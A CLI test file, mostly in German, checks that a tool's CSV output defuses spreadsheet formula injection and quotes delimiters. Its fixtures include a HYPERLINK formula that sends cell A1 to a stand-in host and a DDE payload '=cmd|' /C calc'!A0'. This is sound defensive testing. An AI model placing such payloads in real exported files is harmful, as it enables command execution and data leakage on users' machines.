# CSV output cannot inject spreadsheet formulas: a cell that starts with
# '=', '+', '-', '@', a tab or a carriage return gets a single quote in
# front (OWASP's advice), and cells holding ',', ';', a tab, a quote or a
# line end are quoted (RFC 4180), so that a spreadsheet splitting at ';'
# cannot start a new cell inside one either. Numbers stay numbers: the
# value -3.2 is written as it is. The cases pick single cells with grep -o,
# so that they hold when columns are added.

### Sätze mit =HYPERLINK, +1 und @SUM beginnen mit einem Apostroph
% "$ABG_BIN" facts -f csv tests/cli/data/csv/formeln.txt > "$ABG_TMP/f.csv"
$ grep -o -e ",\"'=HYPERLINK[^,]*" -e ",'+1 Prozent[^,]*" -e ",'@SUM[^,]*" {tmp}/f.csv
> ,"'=HYPERLINK(""http://x.example/?""&A1;""klick"") Der Anteil liegt bei 27 Prozent."
> ,'+1 Prozent mehr als im Vorjahr.
> ,'@SUM(A1:A9) meldet 5 Millionen Euro.

### Die Quelle (aus dem Vorspann) wird neutralisiert, in jeder Zeile
% "$ABG_BIN" facts -f csv tests/cli/data/csv/formeln.txt > "$ABG_TMP/f.csv"
$ grep -c "^tests/cli/data/csv/formeln.txt,'=cmd|' /C calc'!A0,percent," {tmp}/f.csv
> 4

### Der Text "-3,2 Prozent" ist Text mit Apostroph, der Wert -3.2 bleibt eine Zahl
% "$ABG_BIN" facts -f csv tests/cli/data/csv/formeln.txt > "$ABG_TMP/f.csv"
$ grep -o ",\"'-3,2 Prozent\",-3.2,,%,exact,11,1,211,12," {tmp}/f.csv
> ,"'-3,2 Prozent",-3.2,,%,exact,11,1,211,12,

### Die Kopfzeile ist unverändert
% "$ABG_BIN" facts -f csv tests/cli/data/csv/formeln.txt > "$ABG_TMP/f.csv"
$ grep -c "^doc,source,type,text,value,value_to,unit,qualifier,line,col,offset,length,sentence,rule" {tmp}/f.csv
> 1

### Gruppenname einer Quelle mit Formel in terms -f csv
$ abgleich terms -f csv --top 1 tests/cli/data/csv/formeln.txt
>@ tests/cli/expected/csv-formeln-terms.txt

### Ein Semikolon im Satz wird in Anführungszeichen gesetzt
$ sh -c '"$ABG_BIN" facts -f csv --type money - | grep -o ",\"Umsatz; Gewinn: 3 Millionen Euro.\","'
< Umsatz; Gewinn: 3 Millionen Euro.
> ,"Umsatz; Gewinn: 3 Millionen Euro.",
